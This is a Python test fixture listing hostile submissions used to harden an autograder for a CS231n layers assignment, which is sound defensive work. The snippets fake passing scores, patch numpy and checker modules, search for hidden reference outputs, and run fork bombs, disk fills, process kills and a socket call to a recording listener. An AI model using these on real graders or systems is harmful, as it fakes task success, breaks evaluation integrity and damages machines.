"""The corpus of hostile submissions (tests/grader/test_hostile.py grades each; the Gradescope tests reuse
three): code appended to the starter's ``cs231n/layers.py``, each with the wall-time bound of its whole grade.
``PORT`` in a snippet is replaced by the port of a listener that records any connection."""
from __future__ import annotations

# Wraps every public function of layers.py (after the module has defined them) with `attack`.
REPLACE_ALL = '''
import functools as _ft, types as _types
def _hostile_wrap(_f):
    @_ft.wraps(_f)
    def _w(*args, **kwargs):
        return attack(*args, **kwargs)
    return _w
for _n, _v in list(globals().items()):
    if isinstance(_v, _types.FunctionType) and not _n.startswith("_") and _n != "attack":
        globals()[_n] = _hostile_wrap(_v)
'''

ATTACKS: dict[str, tuple[str, float]] = {
    # name: (code appended to layers.py, wall-time bound in seconds for the whole grade)
    "monkeypatch_numpy": ('''
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.abs = lambda x, *a, **k: x * 0
np.max = lambda *a, **k: 0.0
np.maximum = lambda a, b, *x, **k: a * 0
''', 120),
    "patch_checker": ('''
import sys, types
for _name in ("grader", "grader.checks", "grader.scoring", "pytest", "_pytest"):
    _m = types.ModuleType(_name)
    _m.rel_error = lambda *a, **k: 0.0
    sys.modules[_name] = _m
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {})
''', 120),
    "always_equal": ('''
import numpy as np
class _Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __sub__(self, other): return _Yes(0.0)
    __rsub__ = __sub__
    def __abs__(self): return _Yes(0.0)
    def __array__(self, *a, **k): return np.zeros((2, 3))
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter([self, self, self])
    def __len__(self): return 3
    def __getitem__(self, i): return self
def attack(*args, **kwargs):
    return _Yes(0.0)
''' + REPLACE_ALL, 120),
    "ndarray_subclass": ('''
import numpy as np
class _Sneaky(np.ndarray):
    def __sub__(self, other): return np.zeros_like(np.asarray(other, dtype=float))
    def __rsub__(self, other): return np.zeros_like(np.asarray(other, dtype=float))
    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.broadcast_shapes(*[np.shape(i) for i in inputs]))
def attack(*args, **kwargs):
    shape = args[0].shape if args and hasattr(args[0], "shape") else (1,)
    out = np.zeros(shape).view(_Sneaky)
    return out, out
''' + REPLACE_ALL, 120),
    "read_hidden_files": ('''
import glob, os
import numpy as np
_FOUND = []
for _pattern in ("/work/**/reference_outputs/**/*.npz", "/work/**/suites/*.py", "/root/**/*.npz",
                 "/**/reference_outputs/**/*.npz", "/**/manifest.json", "/**/solutions/cs231n/layers.py"):
    try:
        _FOUND += glob.glob(_pattern, recursive=True)[:50]
    except Exception:
        pass
_ARRAYS = []
for _p in _FOUND:
    if _p.endswith(".npz"):
        try:
            _z = np.load(_p)
            _ARRAYS += [_z[k] for k in _z.files]
        except Exception:
            pass
def attack(*args, **kwargs):
    # Return the stored array whose shape fits, if any was found.
    for _a in _ARRAYS:
        if args and hasattr(args[0], "shape") and _a.shape[:1] == args[0].shape[:1]:
            return _a, _a
    raise RuntimeError("found %d files: %r" % (len(_FOUND), _FOUND[:5]))
''' + REPLACE_ALL, 120),
    "sys_exit_at_import": ('''
import sys
print('{"score": 100.0, "tests": []}')
sys.exit(0)
''', 120),
    "os_exit_in_calls": ('''
import os
def attack(*args, **kwargs):
    os._exit(0)
''' + REPLACE_ALL, 180),
    "kill_parent": ('''
import os, signal
def attack(*args, **kwargs):
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception:
            pass
    return None
''' + REPLACE_ALL, 180),
    "fake_json_output": ('''
import json, os, sys
_FAKE = json.dumps({"score": 100.0, "tests": [{"name": "all", "score": 100.0, "max_score": 100.0}]})
def attack(*args, **kwargs):
    print(_FAKE)
    sys.stdout.flush()
    for fd in range(0, 12):
        try:
            os.write(fd, (_FAKE + "\\n").encode())
        except OSError:
            pass
    return None
''' + REPLACE_ALL, 180),
    "infinite_loop_in_calls": ('''
def attack(*args, **kwargs):
    while True:
        pass
''' + REPLACE_ALL, 300),
    "sleep_at_import": ('''
import time
time.sleep(3600)
''', 300),
    "huge_allocation": ('''
import numpy as np
def attack(*args, **kwargs):
    a = np.ones(20 * 2**30 // 8)
    return a, a
''' + REPLACE_ALL, 180),
    "fork_bomb": ('''
import os
def attack(*args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass
''' + REPLACE_ALL, 300),
    "disk_fill": ('''
import os
def attack(*args, **kwargs):
    chunk = b"x" * (1 << 20)
    for d in ("/tmp", os.path.dirname(__file__), "/sandbox", "/work", "/"):
        try:
            with open(os.path.join(d, "fill.bin"), "wb") as f:
                while True:
                    f.write(chunk)
        except Exception:
            pass
    return None
''' + REPLACE_ALL, 180),
    "network_connect": ('''
import socket
def attack(*args, **kwargs):
    for host in ("127.0.0.1", "localhost", "10.0.2.2"):
        try:
            s = socket.create_connection((host, PORT), timeout=1)
            s.sendall(b"PWNED")
            s.close()
        except Exception:
            pass
    return None
''' + REPLACE_ALL, 180),
}
